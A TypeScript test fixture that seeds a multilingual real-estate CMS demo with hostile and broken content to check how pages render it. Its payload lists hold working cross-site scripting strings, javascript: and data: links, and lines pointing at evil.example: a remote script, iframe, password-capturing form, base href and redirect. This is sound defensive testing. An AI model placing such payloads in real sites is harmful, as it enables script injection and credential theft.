// The demo data with what an attacker, a careless editor and a broken disk would do to it.
import { readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { stripComplex } from './lacking-seed.ts'
import { rewrite, tinySeed } from './small-seed.ts'

/** A script that no page may run: it sets a global variable. */
const RUN = 'window.ran=1'
/** For plain text. */
const WORDS = [
  `"'><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `</title></style></textarea><svg onload=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; \${${RUN}} {${RUN}}`,
  '‮ ​\u0000 ]]> <!-- ',
]
/** For rich text. */
const RICH = [
  `<script>${RUN}</script><script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${RUN}"><svg><script>${RUN}</script><a xlink:href="javascript:${RUN}">x</a></svg>`,
  `<p style="position:fixed;inset:0;z-index:99999" onclick="${RUN}" class="modal-dialog" id="content">over the page</p>`,
  `<a href="javascript:${RUN}">a</a><a href=" jav&#x09;ascript:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a>`,
  '<a href="//evil.example" target="_blank" onmouseover="window.ran=1">d</a>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><video autoplay src=x>',
  '<form action="https://evil.example"><input name=password autofocus></form><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example">',
  '<style>*{display:none}</style><math><mtext><style><img src=x onerror=window.ran=1></style></mtext></math>',
  `<figure data-image='"><img src=x onerror=${RUN}>'><figcaption onclick="${RUN}">e</figcaption></figure>`,
  '<!--><img src=x onerror=window.ran=1>--><p>an end that is missing <strong><em><a href="/contact">f',
]
/** For the links of the footer. */
const LINKS: Record<string, string> = {
  facebook: `javascript:${RUN}`,
  instagram: `\tJAVASCRIPT:${RUN}`,
  youtube: `data:text/html,<script>${RUN}</script>`,
  linkedin: `https://x.example/" onmouseover="${RUN}`,
  privacy: `vbscript:${RUN}`,
  email1: `a@x.example" onclick="${RUN}`,
  phone: `+995 32 2" onclick="${RUN}`,
}
const LANGUAGES = ['ka', 'en', 'ru']

type Json = null | boolean | number | string | Json[] | { [key: string]: Json }
interface Entry {
  _id: string
  slug: string
  values: Record<string, Json>
}

let count = 0
const next = (payloads: readonly string[]) => payloads[count++ % payloads.length] as string

/** Adds payloads to all translated text; ids, states and numbers stay. */
function spoil(value: Json, isText: boolean): Json {
  if (typeof value === 'string') {
    if (!isText) return value
    return value.includes('<p>') ? value + next(RICH) : `${value} ${next(WORDS)}`
  }
  if (Array.isArray(value)) return value.map((one) => spoil(one, isText))
  if (value === null || typeof value !== 'object') return value
  return Object.fromEntries(
    Object.entries(value).map(([key, one]) => {
      const isName = ['key', 'state', 'image', 'file', 'month', 'from', 'to'].includes(key)
      return [key, spoil(one, (isText && !isName) || LANGUAGES.includes(key))]
    }),
  )
}

const long = (value: Json): Json =>
  Object.fromEntries(
    Object.entries(value as Record<string, string>).map(([key, text]) => [key, `${text} `.repeat(10).trim()]),
  )

/** A complex without buildings, texts and pictures of its own. */
const BARE: Entry = {
  _id: 'project-bare-field',
  slug: 'bare-field',
  values: {
    name: { ka: 'ცარიელი მინდორი', en: 'Bare Field', ru: 'Чистое поле' },
    district: { ka: 'ლილო', en: 'Lilo', ru: 'Лило' },
    address: { ka: '–', en: '–', ru: '–' },
    coordinates: { lat: 41.7, lng: 45 },
    status: 'current',
    completion: '2029-12-15T00:00:00.000Z',
    summary: { ka: '–', en: '–', ru: '–' },
    lead: { ka: '–', en: '–', ru: '–' },
    description: { ka: '<p>–</p>', en: '<p>–</p>', ru: '<p>–</p>' },
    features: { ka: ['–'], en: ['–'], ru: ['–'] },
    hero: 'image-hill-house-hero',
    cover: 'image-hill-house-hero',
  },
}

/** Its text is missing in two languages, its title in one. */
const GEORGIAN_NEWS: Entry = {
  _id: 'news-georgian',
  slug: 'georgian',
  values: {
    title: { ka: 'ახალი ამბავი', en: 'News from the site' },
    summary: { ka: 'მოკლედ.' },
    body: { ka: '<p>მხოლოდ ქართულად.</p>' },
    cover: 'image-hill-house-hero',
    publishedAt: '2026-01-05T08:00:00.000Z',
  },
}

const FILM = { _id: 'file-film', filename: 'film.mp4', source: 'media/film.mp4', isPrivate: false }

const WITH_LONG_WORDS = [
  'terrace-park-b-roof',
  'how-to-read-a-plan',
  'terrace-park',
  'terrace-park-instalments',
  'architect',
]
const LONG_WORD = Object.fromEntries(LANGUAGES.map((language) => [language, 'x'.repeat(5000)]))

/** The slug of a news entry that gets a title ten times as long. */
const LONG_NEWS = 'terrace-park-b-roof'

/** A flat whose price is none. */
const NO_PRICE = 'OG-A-202'

/** Writes the malicious seed into a folder and returns its path. */
export async function writeBadSeed(folder: string): Promise<string> {
  const seed = await tinySeed(folder)
  await stripComplex(seed, 'hill-house')
  const project = join(seed, 'projects/terasa')
  for (const name of await readdir(join(project, 'content'))) {
    await rewrite<Entry>(join(project, 'content', name), (entries) =>
      entries.map((entry) => {
        const values = spoil(entry.values, false) as Entry['values']
        if (name === 'footer.json') Object.assign(values, LINKS, { isLogoVisible: false })
        if (name === 'page.json' && entry.slug === 'about') Object.assign(values, { video: FILM._id })
        if (WITH_LONG_WORDS.includes(entry.slug) && 'summary' in values)
          Object.assign(values, { summary: LONG_WORD })
        if (entry.slug === LONG_NEWS) Object.assign(values, { title: long(entry.values.title ?? {}) })
        return { ...entry, values }
      }),
    )
  }
  await rewrite<Entry>(join(project, 'content/project.json'), (entries) => [...entries, BARE])
  await rewrite<Entry>(join(project, 'content/news.json'), (entries) => [...entries, GEORGIAN_NEWS])
  await rewrite<object>(join(project, 'files.json'), (files) => [...files, FILM])
  await writeFile(join(project, FILM.source), 'What it contains does not matter until it plays.')
  for (const name of await readdir(join(project, 'items'))) {
    await rewrite<Record<string, Json>>(join(project, 'items', name), (items) =>
      items.map((item) => ({
        ...item,
        name: spoil(item.name ?? null, false),
        ...(item.sku === NO_PRICE && { price: { amount: -5_000_000, currency: 'USD' } }),
      })),
    )
  }
  await rewrite<Record<string, Json>>(join(project, 'images.json'), (images) =>
    images.map((image) => ({ ...image, alt: spoil(image.alt ?? null, false) })),
  )
  return seed
}
